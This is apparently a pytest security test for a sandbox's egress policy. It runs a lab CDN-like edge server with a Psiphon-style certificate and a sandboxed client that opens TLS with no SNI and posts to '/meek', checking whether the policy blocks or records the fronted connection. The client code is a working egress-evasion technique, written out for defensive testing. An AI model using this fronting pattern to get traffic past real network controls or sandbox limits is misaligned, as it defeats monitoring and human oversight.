"""A Psiphon-like client fronted by a CDN (issue 13): no public capture of it is in ../shared, so the lab plays it.
The attacker runs a CDN-like edge on 198.18.10.7 (TLS 1.2, the certificate a CDN serves to a client that names no
host: ``sni.cloudflaressl.com``, with the tool's ``psiphon3.net`` among its names in the ``psiphon`` variant, as in
nDPI's psiphon3.pcap); the sandbox speaks as Psiphon's fronted client does: TLS with no SNI that offers HTTP's ALPN
(``h2``, ``http/1.1``), then a request naming its own host inside (tests/security/policies/circumvent.yaml).

Ground truth is the edge's own log: under ``tls: bound`` the request never arrives (refused at the ClientHello,
``tls-no-sni``); under ``tls: any`` the policy lets TLS without a name through (recorded, ``tls-no-sni``) and the
request arrives: that is the policy's choice, and the capture's scan names the tool (egress.detect.circumvent) from
the certificate that crossed."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest

from tests.security.conftest import LabFactory
from tests.security.harness import POLICIES, Attacker, SecurityLab, report

pytestmark = pytest.mark.security

EDGE = "198.18.10.7"
BOUND, ANY = 8450, 8451
NAMES = {"psiphon": "DNS:sni.cloudflaressl.com,DNS:psiphon3.net,DNS:*.psiphon3.net", "cdn": "DNS:sni.cloudflaressl.com"}
SERVER = r"""
import socket, ssl, sys, threading
certfile, keyfile, host, ports = sys.argv[1], sys.argv[2], sys.argv[3], [int(p) for p in sys.argv[4:]]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.maximum_version = ssl.TLSVersion.TLSv1_2  # a CDN edge's TLS 1.2: its certificate crosses in the clear
context.load_cert_chain(certfile, keyfile)
context.set_alpn_protocols(["http/1.1"])
def serve(conn):
    try:
        with context.wrap_socket(conn, server_side=True) as tls:
            data = tls.recv(4096)
            print("request", data.split(b"\r\n", 1)[0].decode(errors="replace"), flush=True)
            tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
    except (OSError, ssl.SSLError) as error:
        print("failed", error, flush=True)
def accept(listener):
    while True:
        conn, _ = listener.accept()
        threading.Thread(target=serve, args=(conn,), daemon=True).start()
for port in ports:
    listener = socket.create_server((host, port))
    threading.Thread(target=accept, args=(listener,), daemon=True).start()
print("listening", flush=True)
threading.Event().wait()
"""
CLIENT = r"""
import socket, ssl, sys
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
context.maximum_version = ssl.TLSVersion.TLSv1_2
context.set_alpn_protocols(["h2", "http/1.1"])
try:
    raw = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
    with context.wrap_socket(raw, server_hostname=None) as tls:  # no SNI: the host is named only inside
        tls.sendall(b"POST /meek HTTP/1.1\r\nHost: front-own.example\r\nContent-Length: 5\r\n\r\nhello")
        print("answer", tls.recv(4096).split(b"\r\n", 1)[0].decode())
except (OSError, ssl.SSLError) as error:
    print("failed", error)
"""


def _certificate(lab: SecurityLab, variant: str) -> tuple[str, str]:
    directory = lab.lab.state_dir / f"edge-{variant}"
    directory.mkdir(parents=True, exist_ok=True)
    cert, key = directory / "cert.pem", directory / "key.pem"
    argv = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
            "-days", "2", "-subj", "/CN=sni.cloudflaressl.com", "-addext", f"subjectAltName={NAMES[variant]}",
            "-keyout", str(key), "-out", str(cert)]  # fmt: skip
    subprocess.run(argv, check=True, capture_output=True, timeout=60)
    return str(cert), str(key)


@pytest.fixture(scope="module")
def fronting(lab_factory: LabFactory) -> SecurityLab:
    return lab_factory(POLICIES / "circumvent.yaml")


def _edge(lab: SecurityLab, variant: str) -> Attacker:
    cert, key = _certificate(lab, variant)
    running = lab.attacker(f"edge-{variant}", [sys.executable, "-c", SERVER, cert, key, EDGE, str(BOUND), str(ANY)])
    running.wait_for("listening")
    return running


@pytest.mark.parametrize("variant", ["psiphon", "cdn"])
@pytest.mark.parametrize(("port", "rule"), [(BOUND, "bound"), (ANY, "any")])
def test_fronted_tls_without_sni(fronting: SecurityLab, variant: str, port: int, rule: str) -> None:
    lab = fronting
    edge = next((p for p in lab.processes if p.name == f"edge-{variant}"), None)
    if edge is None:
        lab.stop_processes()  # one edge at a time on the ports
        edge = _edge(lab, variant)
    before = edge.log().count("request ")
    since = time.time()
    with lab.capture(f"fronting-{variant}-{rule}") as capture:
        done = lab.sandbox_python(CLIENT, EDGE, str(port))
    crossed = capture.result
    assert crossed is not None
    arrived = edge.log().count("request ") > before
    leaked = crossed.bytes_to(EDGE, port, "tcp") if arrived else 0
    reason = lab.reason_of(since, lambda r: r.dst == EDGE and r.dport == port)
    technique = f"circumvent/fronted-no-sni-{variant}-{rule}"
    note = "tls: any lets TLS without a name through, recorded; the scan names the tool" if rule == "any" else ""
    report(technique, "tunnel", leaked, arrived, reason, note)
    assert reason == "tls-no-sni", (reason, done.stdout, done.stderr)
    if rule == "bound":
        assert not arrived and "answer" not in done.stdout, (edge.log(), done.stdout)
    else:
        assert arrived and "answer HTTP/1.1 200 OK" in done.stdout, (edge.log(), done.stdout, done.stderr)
